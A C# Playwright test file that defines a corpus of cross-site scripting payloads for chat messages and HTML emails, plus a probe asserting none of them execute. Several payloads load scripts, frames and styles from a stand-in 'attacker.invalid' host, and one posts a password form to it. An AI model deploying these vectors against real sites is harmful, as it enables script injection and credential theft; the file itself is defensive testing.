using Microsoft.Playwright;

namespace ContactCenter.EndToEnd.Tests.Security;

/// <summary>
/// Hostile input shared by the XSS tests (console chat, email HTML, widget): every payload that would run sets
/// <c>window.__xss</c>, opens a dialog or asks <see cref="AttackerHost"/> for something — <see cref="XssProbe"/> watches all three.
/// </summary>
public static class XssCorpus
{
    /// <summary>A host no payload may ever reach (.invalid never resolves; the probe intercepts it before DNS anyway).</summary>
    public const string AttackerHost = "attacker.invalid";

    /// <summary>Plain-text payloads (chat messages, names, agent replies): they must show literally, never become markup.</summary>
    public static readonly string[] Text =
    [
        "<script>window.__xss=1;alert('script')</script>",
        "<img src=x onerror=\"window.__xss=2;alert('img')\">",
        "<svg onload=\"window.__xss=3;alert('svg')\"></svg>",
        "<a href=\"javascript:window.__xss=4;alert('href')\">click me</a>",
        "<div style=\"background:url(javascript:window.__xss=5)\">css url</div>",
        "<div style=\"width:expression(window.__xss=6)\">css expression</div>",
        "&lt;script&gt;window.__xss=7&lt;/script&gt; &#60;img src=x onerror=alert(8)&#62;",
        "<iframe srcdoc=\"<script>parent.__xss=9</script>\"></iframe>",
        "你好 <b onmouseover=\"window.__xss=10\">订单</b> 没有到",
        "javascript:window.__xss=11 data:text/html,<script>alert(12)</script> https://example.com/ok",
    ];

    /// <summary>
    /// Hostile HTML email bodies: scripts, handlers, javascript:/data: URLs, SVG, frames, objects, CSS expression/url()/@import,
    /// meta refresh, base href, forms and entity-encoded tricks. Each is one email; the marker word (x01…) identifies it.
    /// </summary>
    public static readonly string[] EmailHtml =
    [
        "<p>x01 hello</p><script>window.__xss=101;alert('script')</script><script src=\"http://attacker.invalid/s.js\"></script>",
        "<p>x02 <img src=\"x\" onerror=\"window.__xss=102\" onload=\"window.__xss=102\"></p><body onload=\"window.__xss=103\">",
        "<p>x03 <a href=\"javascript:window.__xss=104\">pay now</a> <a href=\"JaVaScRiPt&#58;window.__xss=105\">encoded</a> <a href=\"&#106;avascript:window.__xss=106\">entity</a></p>",
        "<p>x04 <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a><img src=\"data:image/svg+xml,<svg onload=alert(1)>\"></p>",
        "<p>x05</p><svg onload=\"window.__xss=107\"><script>window.__xss=108</script><image href=\"http://attacker.invalid/svg.png\"/></svg>",
        "<p>x06</p><iframe src=\"http://attacker.invalid/frame\"></iframe><iframe srcdoc=\"<script>parent.__xss=109</script>\"></iframe>",
        "<p>x07</p><object data=\"http://attacker.invalid/o.swf\"></object><embed src=\"http://attacker.invalid/e.swf\">",
        "<p style=\"width:expression(window.__xss=110);background:url(http://attacker.invalid/bg.png)\">x08 css</p><style>@import url(http://attacker.invalid/i.css); body{background:url(http://attacker.invalid/b.png)}</style><link rel=\"stylesheet\" href=\"http://attacker.invalid/l.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://attacker.invalid/refresh\"><p>x09 refresh</p>",
        "<base href=\"http://attacker.invalid/\"><p>x10 <a href=\"relative\">relative</a> <img src=\"relative.png\"></p>",
        "<form action=\"http://attacker.invalid/steal\" method=\"post\"><p>x11 password</p><input name=\"p\" type=\"password\"><button formaction=\"javascript:window.__xss=111\">go</button></form>",
        "<p>x12 &lt;script&gt;window.__xss=112&lt;/script&gt; &#60;img src=x onerror=window.__xss=113&#62; <scr<script>ipt>window.__xss=114</scr</script>ipt></p>",
        "<table background=\"javascript:window.__xss=115\"><tr><td>x13</td></tr></table><div onmouseover=\"window.__xss=116\">hover</div><details open ontoggle=\"window.__xss=117\"><summary>x13</summary></details>",
        "<p>x14 <a href=\"mailto:help@example.com\">mail us</a> <a href=\"https://example.com/track\">track</a></p><math><mtext><style><img src=x onerror=window.__xss=118></style></mtext></math>",
    ];
}

/// <summary>Watches a page for any sign a payload ran: dialogs, console messages from payloads, and requests to the attacker's host (aborted).</summary>
public sealed class XssProbe
{
    public List<string> Dialogs { get; } = [];
    public List<string> AttackerRequests { get; } = [];
    public List<string> Console { get; } = [];

    public static async Task<XssProbe> AttachAsync(IBrowserContext context)
    {
        ArgumentNullException.ThrowIfNull(context);
        var probe = new XssProbe();
        await context.RouteAsync($"**://{XssCorpus.AttackerHost}/**", async route =>
        {
            lock (probe.AttackerRequests)
            {
                probe.AttackerRequests.Add(route.Request.Url);
            }

            await route.AbortAsync();
        });
        context.Page += (_, page) => probe.Watch(page);
        foreach (var page in context.Pages)
        {
            probe.Watch(page);
        }

        return probe;
    }

    private void Watch(IPage page)
    {
        page.Dialog += async (_, d) =>
        {
            lock (Dialogs)
            {
                Dialogs.Add(d.Message);
            }

            await d.DismissAsync();
        };
        page.Console += (_, m) =>
        {
            lock (Console)
            {
                Console.Add(m.Text);
            }
        };
    }

    /// <summary>Nothing ran on <paramref name="page"/>: no dialog, no window flag, no request to the attacker, no console line naming a payload.</summary>
    public async Task AssertNothingRanAsync(IPage page)
    {
        ArgumentNullException.ThrowIfNull(page);
        Assert.Empty(Dialogs);
        Assert.Empty(AttackerRequests);
        Assert.Equal("undefined", await page.EvaluateAsync<string>("() => typeof window.__xss"));
        Assert.DoesNotContain(Console, line => line.Contains("__xss", StringComparison.Ordinal));
    }
}
